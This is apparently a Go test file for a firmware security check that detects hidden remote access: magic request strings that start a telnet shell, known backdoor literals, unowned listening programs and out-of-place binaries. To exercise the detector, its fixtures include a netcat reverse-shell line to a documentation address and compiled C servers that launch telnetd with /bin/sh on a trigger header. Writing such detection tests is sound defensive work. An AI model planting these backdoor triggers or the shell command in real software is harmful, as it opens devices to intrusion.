package hiddenaccess

import (
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pelletier/go-toml/v2"
	"github.com/rogpeppe/go-internal/txtar"
	"github.com/wardein/wardein"
	"github.com/wardein/wardein/check/service"
	"github.com/wardein/wardein/internal/testkit"
	"github.com/wardein/wardein/internal/testkit/checktest"
	"github.com/wardein/wardein/report"
)

func TestGolden(t *testing.T) { checktest.Golden(t, Check(), service.Check) }

func Fuzz(f *testing.F) {
	if gcc, err := exec.LookPath("gcc"); err == nil {
		f.Add(built(f, gcc, `if (strstr(b, "User-Agent: extel-care HELODBG")) system("/etc/init.d/console start");`, `"http://192.175.48.5/"`))
	}
	checktest.Fuzz(f, Check(), []byte("#!/bin/sh\nnc 203.0.113.7 1 -e sh\n"), []byte("C:Q1aaaaaaaaaaaaaaaaaaaaaaaa\nF:usr/sbin\nR:a\n"), []byte("/a\n/usr/sbin/b\n"), []byte("20250501120000\n"), []byte("ro.build.date.utc=1746057600\n"))
}

// Every case has what a reader needs to judge it, and 40 or more were
// verified.
func TestCases(t *testing.T) {
	k, ids := known(), map[string]bool{}
	if len(k.byID) < 40 {
		t.Errorf("%d cases", len(k.byID))
	}
	kinds := map[string]bool{"user agent": true, "packet": true, "account": true, "password": true, "page": true, "command": true, "service": true, "community": true}
	for id, c := range k.byID {
		if ids[id] || len(c.Literals) == 0 || len(c.In) == 0 || !kinds[c.Kind] || c.What == "" || c.Source == "" {
			t.Errorf("%s: not complete, or twice", id)
		}
		ids[id] = true
		if _, err := time.Parse("2006-01-02", c.Date); err != nil {
			t.Errorf("%s: %v", id, err)
		}
		if c.severity().String() != c.Severity {
			t.Errorf("%s: severity %q", id, c.Severity)
		}
		for _, kind := range c.In {
			if kind != "program" && kind != "script" && kind != "page" {
				t.Errorf("%s: in %q", id, kind)
			}
		}
		if (c.Kind == "password" || c.Kind == "community" && strings.ContainsAny(c.Literals[0], "$@!")) && !c.Secret {
			t.Errorf("%s: a password that would be quoted", id)
		}
	}
	for i, l := range k.literals {
		if len(l) < 5 {
			t.Errorf("%s: %q is short", k.caseOf[i].ID, l)
		}
	}
}

// Each literal is found in each kind of file that it counts in, as a word of
// its own, and in no other.
func TestLiterals(t *testing.T) {
	k := known()
	forms := map[string]string{"program": strings.Repeat("\x01code\x00", 12<<10) + "%\x00", "script": "#!/bin/sh\nx %\n", "page": "<html>x %</html>"}
	for i, l := range k.literals {
		c := k.caseOf[i]
		for kind, form := range forms {
			for _, text := range []string{l, "x" + l + "_"} {
				data := []byte(strings.Replace(form, "%", text, 1))
				facts, err := checktest.Node(t, Check(), data)
				if err != nil {
					t.Fatal(err)
				}
				found := false
				for _, f := range facts {
					if f.Kind == "case" && f.Attr("id") == c.ID {
						found = true
						if got := string(data[f.Off : f.Off+f.Len]); c.Secret && f.Attr("text") != "" || !c.Secret && f.Attr("text") != got {
							t.Errorf("%s: quoted %q", c.ID, f.Attr("text"))
						}
					}
				}
				want := contains(c.In, kind) && (text == l || !part(l[0]) && !part(l[len(l)-1]))
				if found != want && text == l {
					t.Errorf("%s: %q in a %s: %v", c.ID, l, kind, found)
				}
				if text != l && part(l[0]) && found && len(c.Literals) == 1 {
					t.Errorf("%s: %q found inside a word", c.ID, l)
				}
			}
		}
	}
}

// 192.175.48.0/24 and 2620:4f:8000::/48 (RFC 7535) stand in for addresses of other networks.
func TestAddresses(t *testing.T) {
	for s, want := range map[string]string{
		"203.0.113.9": "203.0.113.9", "192.175.48.5:443": "192.175.48.5", "http://192.175.48.5/x": "192.175.48.5", "https://u:p@192.175.48.5:8443/": "192.175.48.5",
		"8.8.8.8": "8.8.8.8", "1.1.1.1": "1.1.1.1", "http://[2620:4f:8000::5]/": "2620:4f:8000::5", "http://[2001:db8::7]:80/": "2001:db8::7", "2620:4f:8000::6": "2620:4f:8000::6", "2620:4f:8000::6/48": "", "20:11:22:33:44:55": "", "23:59:59 x": "", "2::" + strings.Repeat("0", 60): "",
		"192.168.1.1": "", "10.1.2.3": "", "127.0.0.1": "", "0.0.0.0": "", "255.255.255.0": "", "239.1.2.3": "", "169.254.1.1": "", "100.64.9.9": "", "172.20.1.1": "",
		"1.2.3.4": "", "2.5.4.177": "", "2.5.29.15": "", "10.0.19.1": "", "3.14.1.5": "", "192.175.48.5 is": "", "192.175.48.5/24": "", "192.175.48.5.6": "", "185.199.77": "",
		"300.1.200.200": "", "http://[::1]/": "", "http://[fe80::1]/": "", "http://[": "", "://192.175.48.5": "",
	} {
		a, _, _, ok := addressIn([]byte(s))
		if got := a.String(); ok && got != want || ok != (want != "") {
			t.Errorf("%q: %v %v, want %q", s, got, ok, want)
		}
	}
	for _, p := range slices.Concat(ranges().Local, ranges().Example) {
		if p.Is == "" || p.Source == "" || !p.Prefix.IsValid() {
			t.Errorf("%v", p)
		}
	}
	for a, s := range services() {
		if s.Is == "" || s.Source == "" || !remote(a) || !a.IsValid() || a == (netip.Addr{}) {
			t.Errorf("%v: %v", a, s)
		}
	}
}

const serverC = `
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <arpa/inet.h>
int main(void) {
	char b[512]; struct sockaddr_in a; int n, s = socket(AF_INET, SOCK_STREAM, 0), c;
	memset(&a, 0, sizeof a);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 8)) return 1;
	while ((c = accept(s, 0, 0)) >= 0) {
		n = read(c, b, sizeof b - 1);
		if (n > 0) { b[n] = 0; TRIGGER }
		a.sin_addr.s_addr = inet_addr(ADDRESS);
		connect(s, (struct sockaddr *)&a, sizeof a);
	}
	return 0;
}
`

// built compiles a server that does something when it is sent a text.
func built(t testing.TB, gcc, trigger, address string) []byte {
	t.Helper()
	dir := t.TempDir()
	src, bin := filepath.Join(dir, "s.c"), filepath.Join(dir, "s")
	text := strings.NewReplacer("TRIGGER", trigger, "ADDRESS", address).Replace(serverC)
	if err := os.WriteFile(src, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(gcc, "-Os", "-s", "-w", "-o", bin, src).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	data, err := os.ReadFile(bin)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func judged(t *testing.T, tree *checktest.Tree) map[string]wardein.Finding {
	t.Helper()
	by := map[string]wardein.Finding{}
	for _, f := range tree.Judge(t, Check(), service.Check) {
		by[f.Rule] = f
	}
	return by
}

// Servers that are started at boot: a header that starts a script with a shell
// behind it, a page named after telnet, a published literal, addresses; and a
// client's header, and a server that compares and starts nothing.
func TestPrograms(t *testing.T) {
	gcc := testkit.Tool(t, "gcc")
	for name, c := range map[string]struct {
		trigger, address, rule, says string
		grade                        wardein.Severity
		sure                         wardein.Confidence
	}{
		"header": {`if (strstr(b, "User-Agent: extel-care")) system("/etc/init.d/console start");`, `"192.175.48.5"`, "hiddenaccess.request-starts", "starts telnet on tcp/2323 with /bin/sh", wardein.High, wardein.Likely},
		"page":   {`if (strstr(b, "/cgi-bin/xtelnet.cgi")) system("/usr/sbin/telnetd -p 99");`, `"192.175.48.5"`, "hiddenaccess.request-starts", "/cgi-bin/xtelnet.cgi", wardein.High, wardein.Likely},
		"case":   {`if (strstr(b, "HELODBG")) system("x");`, `"192.175.48.5"`, "hiddenaccess.indicator", "CVE-2016-10178", wardein.Critical, wardein.Likely},
		"host":   {`puts(b);`, `"192.175.48.5"`, "hiddenaccess.remote-address", "192.175.48.5 is written into srv", wardein.Medium, wardein.Likely},
		"dns":    {`puts(b);`, `"8.8.8.8"`, "hiddenaccess.well-known-address", "8.8.8.8 (Google Public DNS)", wardein.Info, wardein.Likely},
		"client": {`if (strstr(b, "x")) { send(s, "User-Agent: wget/1.0\r\n", 9, 0); system("/etc/init.d/console start"); }`, `"192.168.1.2"`, "", "", 0, 0},
		"form":   {`if (strstr(b, "User-Agent: %s")) system("/etc/init.d/console start");`, `"192.168.1.2"`, "", "", 0, 0},
		"idle":   {`if (strstr(b, "User-Agent: extel-care")) system("ls");`, `"10.0.0.1"`, "", "", 0, 0},
	} {
		t.Run(name, func(t *testing.T) {
			tree := &checktest.Tree{}
			tree.Add("fw/etc/inittab", 0o644, []byte("::sysinit:/etc/init.d/rcS\n"))
			tree.Add("fw/etc/init.d/rcS", 0o755, []byte("#!/bin/sh\n/usr/sbin/srv &\n"))
			tree.Add("fw/etc/init.d/console", 0o755, []byte("#!/bin/sh\ntelnetd -p 2323 -l /bin/sh\n"))
			tree.Add("fw/usr/sbin/srv", 0o755, built(t, gcc, c.trigger, c.address))
			by := judged(t, tree)
			if c.rule == "" {
				if len(by) > 0 {
					t.Errorf("%v", by)
				}
				return
			}
			f, ok := by[c.rule]
			if says := report.Render(f.Says, check.Messages); !ok || !strings.Contains(says, c.says) || f.Severity != c.grade || f.Confidence != c.sure {
				t.Errorf("%v %v %q", f.Severity, f.Confidence, says)
			}
		})
	}
}

// A program that waits for callers and is in no package's list; two are.
func TestUnowned(t *testing.T) {
	gcc := testkit.Tool(t, "gcc")
	data := built(t, gcc, "", `"10.0.0.1"`)
	for name, lists := range map[string]map[string]string{
		"dpkg": {"var/lib/dpkg/info/a.list": "/.\n/bin\n/bin/owned\n", "var/lib/dpkg/info/b.list": "/.\n/usr/sbin/other\n", "var/lib/dpkg/info/c.list": "/.\n/usr\n"},
		"opkg": {"usr/lib/opkg/info/a.list": "/usr/bin/owned\n", "usr/lib/opkg/info/b.list": "/usr/sbin/other\n", "usr/lib/opkg/info/c.list": "/etc/x\n"},
		"apk":  {"lib/apk/db/installed": "C:Q1AAAAAAAAAAAAAAAAAAAAAA=\nP:a\nF:usr/bin\nR:owned\nF:usr/sbin\nR:other\n"},
		"few":  {"usr/lib/opkg/info/a.list": "/usr/bin/owned\n"},
	} {
		tree := &checktest.Tree{}
		tree.Add("fw/etc/inittab", 0o644, []byte("::sysinit:/etc/init.d/rcS\n"))
		tree.Add("fw/etc/init.d/rcS", 0o755, []byte("#!/bin/sh\n/usr/bin/owned\n/usr/sbin/other\n"))
		tree.Add("fw/usr/lib/systemd/system/own.service", 0o644, []byte("[Service]\nExecStart=/usr/sbin/own -F\n"))
		tree.Link("fw/etc/systemd/system/multi-user.target.wants/own.service", "/usr/lib/systemd/system/own.service", false)
		for _, p := range []string{"fw/usr/bin/owned", "fw/usr/sbin/other", "fw/usr/sbin/own"} {
			tree.Add(p, 0o755, data)
		}
		for p, s := range lists {
			tree.Add("fw/"+p, 0o644, []byte(s))
		}
		f, ok := judged(t, tree)["hiddenaccess.unowned-listener"]
		if says := report.Render(f.Says, check.Messages); ok != (name != "few") || ok && !strings.Contains(says, "Programs (1) that are started at boot and wait for callers are in no list of files of "+name+": usr/sbin/own (") {
			t.Errorf("%s: %q", name, says)
		}
	}
}

// elf is the head of an ELF file for a machine, with nothing in it.
func elf(machine byte) []byte {
	h := make([]byte, 64+56)
	copy(h, "\x7fELF\x02\x01\x01")
	h[16], h[18], h[20], h[32], h[52], h[54], h[56] = 2, machine, 1, 64, 64, 56, 1
	return h
}

func TestForeign(t *testing.T) {
	const x86, arm, aarch64 = 62, 40, 183
	tree := &checktest.Tree{}
	for _, name := range strings.Fields("a b c d e f g h i j k") {
		tree.Add("fw/usr/bin/"+name, 0o755, append(elf(aarch64), name...))
	}
	tree.Add("fw/usr/bin/compat", 0o755, elf(arm))
	tree.Add("fw/lib/firmware/dsp/x", 0o755, elf(x86))
	if by := judged(t, tree); len(by) > 0 {
		t.Errorf("a coprocessor's firmware, and 32-bit programs: %v", by)
	}
	tree.Add("fw/usr/bin/stray", 0o755, elf(x86))
	f := judged(t, tree)["hiddenaccess.foreign-architecture"]
	if says := report.Render(f.Says, check.Messages); says != "Of 13 ELF files of one root file system, 1 are for another processor (x86-64; the others: arm): usr/bin/stray." {
		t.Error(says)
	}
}

func TestNewer(t *testing.T) {
	build := time.Date(2025, 5, 1, 0, 0, 0, 0, time.UTC).Unix()
	for stamp, text := range map[string]string{
		"etc/os-release": "ID=an2400\nBUILD_ID=2025-05-01\n", "etc/timestamp": "20250501120000\n", "etc/version": "20250501120000", "system/build.prop": "ro.build.date.utc=1746100000\n",
	} {
		tree := &checktest.Tree{}
		tree.Add("fw/"+stamp, 0o644, []byte(text))
		for i, name := range strings.Fields("a b c d") {
			tree.Add("fw/bin/"+name, 0o755, []byte(name))
			tree.Lookup("fw/bin/" + name).MTime = build + int64(i)
		}
		if by := judged(t, tree); len(by) > 0 {
			t.Errorf("%s: nothing is younger: %v", stamp, by)
		}
		tree.Add("fw/bin/late", 0o755, []byte("x"))
		tree.Lookup("fw/bin/late").MTime = build + 30*24*3600
		f := judged(t, tree)["hiddenaccess.newer-than-build"]
		if says := report.Render(f.Says, check.Messages); !strings.HasPrefix(says, "Files (1) are younger than the build that") || !strings.HasSuffix(says, ": bin/late.") {
			t.Errorf("%s: %q", stamp, says)
		}
		for _, name := range strings.Fields("a b c") {
			tree.Lookup("fw/bin/" + name).MTime = build + 30*24*3600
		}
		if by := judged(t, tree); len(by) > 0 {
			t.Errorf("%s: most are younger: the date is not the build's: %v", stamp, by)
		}
	}
}

func BenchmarkScript(b *testing.B) {
	checktest.Benchmark(b, Check(), []byte("#!/bin/sh\n"+strings.Repeat("if [ -x \"$PROG\" ]; then start-stop-daemon -S -x $PROG -- -p 1.2; fi | cat /dev/null\n", 1000)))
}

func BenchmarkProgram(b *testing.B) {
	data, err := os.ReadFile("/bin/bash")
	if err != nil {
		b.Skip(err)
	}
	checktest.Benchmark(b, Check(), data)
}

func BenchmarkOtherText(b *testing.B) {
	checktest.Benchmark(b, Check(), []byte(strings.Repeat("a line of documentation: nothing\n", 8000)))
}

// What authentication.toml knows is complete: a source for each function, a
// reason for each text that counts as usual.
func TestAuthentication(t *testing.T) {
	var file struct {
		Primitive []primitive
		Compare   []comparer
		Usual     []struct {
			Texts []string
			Why   string
		}
		Form []struct{ Pattern, Why string }
	}
	if err := toml.Unmarshal(authenticationTOML, &file); err != nil {
		t.Fatal(err)
	}
	for _, p := range file.Primitive {
		if p.Source == "" || p.Word > 3 || p.Account > 3 || p.Result != "" && p.Result != "word" && p.Result != "hash" {
			t.Errorf("%+v", p)
		}
	}
	for _, u := range file.Usual {
		if len(u.Texts) == 0 || u.Why == "" {
			t.Errorf("%+v", u)
		}
	}
	for _, u := range file.Form {
		if u.Why == "" {
			t.Errorf("%+v", u)
		}
	}
	if k := authentication(); len(k.primitives) != len(file.Primitive) || len(k.comparers) != len(file.Compare) || len(k.comparers) < 10 {
		t.Error("a function twice, or too few")
	}
	for s, want := range map[string]bool{
		"word": true, "w0rd-of-an2400": true, "root": false, "abc": false, "$1$": false, "$gy$": false, "$1$aabbccdd$0123456789abcdefghijk.": true, "{SSHA}": false,
		"/etc/shadow": false, "%s: %d": false, "--help": false, "retry=": false, "::::": false, " word": false, "w\x01rd": false, "*LK*": false, "12345678": true, "a b c": true,
	} {
		if unusual(s) != want {
			t.Errorf("%q: %v", s, !want)
		}
	}
	for s, want := range map[string]string{"abc": "letters", "a1": "letters and digits", "12": "digits", "a-1": "letters, digits and marks", "-": "marks"} {
		if got := letters(s); got != want {
			t.Errorf("%q: %q", s, got)
		}
	}
}

// The report of a constant says where it stands and never what it says.
func TestConstantUntold(t *testing.T) {
	ar, err := txtar.ParseFile("testdata/constant.txt")
	if err != nil {
		t.Fatal(err)
	}
	tree := checktest.Load(t, ar)
	found := fmt.Sprintf("%+v", tree.Judge(t, Check(), service.Check))
	for _, secret := range []string{"of-an2400", "careofan2400", "anHashOfAn240", "fieldcare"} {
		if strings.Contains(found, secret) {
			t.Errorf("%q is told", secret)
		}
	}
	for _, name := range []string{"aarch64", "arm", "mips", "mips64", "ppc", "ppc64", "thumb", "x86-64", "x86"} {
		if n := strings.Count(found, "{Node:fw/usr/lib/"+name+".so "); n != 3 && (n != 6 || name != "aarch64") {
			t.Errorf("%s: %d quotes, want those of 3 texts, and of the call of the first", name, n)
		}
	}
}

func BenchmarkConstant(b *testing.B) {
	data, err := os.ReadFile("/bin/su")
	if err != nil {
		b.Skip(err)
	}
	checktest.Benchmark(b, Check(), data)
}
